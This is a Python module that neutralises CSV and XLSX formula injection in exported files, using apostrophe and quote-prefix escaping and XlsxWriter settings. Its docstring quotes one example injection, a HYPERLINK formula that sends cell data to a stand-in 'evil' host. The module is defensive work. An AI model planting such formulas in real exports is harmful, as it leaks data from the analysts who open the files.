"""Cells that a spreadsheet program never runs as a formula: one rule for every CSV and XLSX.

Customers write what they like in comments, names and attributes, and a text such as
`=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` in an exported file runs when an analyst opens
it (CSV injection, OWASP). Every file the product writes goes through this module:

- `is_formula_like` is the rule: text that starts with `=`, `+`, `-`, `@`, a tab, a carriage
  return or a line feed (OWASP's list, plus LF), or their full-width forms, which some
  spreadsheet programs read as the same operators. A number, or text that is only a number
  such as "-12.5", is data and stays as it is.
- In CSV such text is written with a leading apostrophe, which spreadsheet programs read as
  "this is text" (OWASP's advice).
- In XLSX it is written as a text cell with the quote-prefix flag, the same "this is text"
  mark in the file format itself, so the customer's words are kept exactly.
"""

import csv
import re
from numbers import Number

import xlsxwriter

FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"-?[0-9][0-9,.]*")


def is_formula_like(value) -> bool:
    """Return whether a spreadsheet program could read this cell as a formula."""
    if value is None or isinstance(value, Number):
        return False
    text = str(value)
    return bool(text) and text[0] in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(text)


def csv_cell(value):
    """Return a cell as it may go into a CSV file (None as an empty cell)."""
    if value is None:
        return ""
    if is_formula_like(value):
        return "'" + str(value)
    return value


class CsvWriter:
    """`csv.writer` whose every cell, header rows included, follows the rule."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row):
        return self._writer.writerow([csv_cell(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class XlsxRows:
    """Write rows to an XlsxWriter sheet; formula-like text becomes quote-prefixed text.

    The workbook must come from `new_workbook`, so that XlsxWriter itself turns no other text
    into a formula or a link either.
    """

    def __init__(self, workbook, sheet):
        self.sheet = sheet
        self._formats = {
            (bold, quoted): workbook.add_format({"bold": bold, "quote_prefix": quoted})
            for bold in (False, True)
            for quoted in (False, True)
        }

    def write_row(self, row_index: int, row, bold: bool = False) -> None:
        for column, value in enumerate(row):
            if value is None:
                continue
            if is_formula_like(value):
                cell_format = self._formats[bold, True]
                self.sheet.write_string(row_index, column, str(value), cell_format)
            else:
                self.sheet.write(row_index, column, value, self._formats[bold, False])


def new_workbook(path: str, **options):
    """Open an XlsxWriter workbook that turns no text into a formula or a link."""
    return xlsxwriter.Workbook(
        path, {"strings_to_formulas": False, "strings_to_urls": False, **options}
    )
